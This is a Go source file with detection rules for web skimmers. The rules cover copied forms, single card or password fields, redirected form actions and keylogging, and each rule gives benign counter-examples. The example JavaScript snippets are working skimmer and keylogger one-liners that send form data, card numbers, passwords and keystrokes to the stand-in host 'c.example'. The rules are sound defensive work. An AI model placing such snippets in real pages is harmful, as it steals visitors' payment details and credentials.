package rule

import b "taisei/detect/behaviour"

// skimmer: what a visitor types into a page goes to somebody else.
func skimmer() []Rule {
	page := []string{b.Load, b.Event, b.Import, b.Call}
	sent := []string{"url", "body", "header"}
	return []Rule{
		{
			ID: "form_copied", Severity: Critical,
			When: []Condition{{Triggers: page, Sources: []string{b.Form}, All: Yes, Copies: Yes, Sinks: []string{b.Network}, Slots: sent, Target: Foreign}},
			Examples: []Example{
				One("jQuery", "lib.js", "jQuery('#pay').on('mouseup touchend',function(){var d={};jQuery('#form').serializeArray().map(function(x){d[x.name]=x.value});jQuery.ajax({type:'POST',url:'https://c.example/g',data:JSON.stringify(d)})})"),
				One("a beacon", "lib.js", "document.querySelector('#buy').addEventListener('click',()=>{const o=[];document.querySelectorAll('input,select').forEach(e=>o.push(e.name+'='+e.value));navigator.sendBeacon('https://c.example/g',o.join('&'))})"),
				One("an image", "lib.js", "document.forms[0].addEventListener('submit',function(){var s='';for(var i=0;i<this.elements.length;i++)s+=this.elements[i].value;new Image().src='https://c.example/p.gif?'+btoa(s)})"),
				One("FormData", "lib.js", "document.onclick=function(){fetch('https://c.example/g',{method:'POST',body:new FormData(document.querySelector('form'))})}"),
			},
			Neighbours: []Example{
				One("to the own host", "lib.js", "jQuery('#pay').on('click',function(){jQuery.ajax({type:'POST',url:'/pay',data:jQuery('#form').serialize()})})"),
				One("instead of the page's own sending", "lib.js", "document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();fetch('https://forms.example/f/1',{method:'POST',body:new FormData(e.target)})})"),
				One("a click, without the form", "lib.js", "jQuery('#pay').on('mouseup touchend',function(){var d={};jQuery('#form').serializeArray().map(function(x){d[x.name]=x.value});jQuery.ajax({type:'POST',url:'https://c.example/g',data:JSON.stringify({clicked:1})})})"),
				One("to this origin by its name", "lib.js", "document.querySelector('form').onsubmit=function(){fetch(location.origin+'/save',{method:'POST',body:new FormData(this)})}"),
			},
		},
		{
			ID: "field_copied", Severity: Critical,
			When: []Condition{{Triggers: page, Sources: []string{b.Form}, All: No, Copies: Yes, Name: Field, Sinks: []string{b.Network}, Slots: sent, Target: Foreign}},
			Examples: []Example{
				One("a card's number", "lib.js", "document.getElementById('pay').addEventListener('mouseup',function(){var n=document.getElementById('cardnumber').value;new Image().src='https://c.example/?'+n})"),
				One("a password", "lib.js", "$('#login').click(function(){$.post('https://c.example/p',{p:$('#password').val()})})"),
			},
			Neighbours: []Example{
				One("to log in at home", "lib.js", "$('#login').click(function(){$.post('/login',{p:$('#password').val()})})"),
				One("a newsletter's address", "lib.js", "$('#join').click(function(){$.post('https://list.example/join',{e:$('#email').val()})})"),
				One("checked only", "lib.js", "document.getElementById('pay').addEventListener('click',function(){if(document.getElementById('cardnumber').value.length<12)alert('?')})"),
			},
		},
		{
			ID: "form_redirected", Severity: High,
			When: []Condition{{Triggers: []string{b.Load, b.Event}, Sinks: []string{b.Form}, Target: Foreign}},
			Examples: []Example{
				One("its action is changed", "lib.js", "document.getElementById('payment').action='https://c.example/pay'"),
				One("on submit", "lib.js", "document.querySelector('form').addEventListener('submit',function(){document.forms[0].setAttribute('action','https://c.example/pay')})"),
			},
			Neighbours: []Example{
				One("to another page of its own", "lib.js", "document.getElementById('payment').action='/pay/step2'"),
				One("a form of its own", "lib.js", "var f=document.createElement('form');f.action='https://bank.example/3ds';document.body.appendChild(f);f.submit()"),
			},
		},
		{
			ID: "keys_logged", Severity: Critical,
			When: []Condition{{Triggers: page, Sources: []string{b.Keyboard}, Sinks: []string{b.Network}, Slots: sent, Target: Foreign}},
			Examples: []Example{
				One("each key", "lib.js", "document.addEventListener('keydown',function(e){new Image().src='https://c.example/k?'+e.key})"),
				One("collected", "lib.js", "var buf='';document.onkeypress=function(e){buf+=e.key};setInterval(function(){fetch('https://c.example/k',{method:'POST',body:buf});buf=''},5000)"),
			},
			Neighbours: []Example{
				One("a shortcut", "lib.js", "document.addEventListener('keydown',function(e){if(e.key==='/')document.getElementById('q').focus()})"),
			},
		},
	}
}
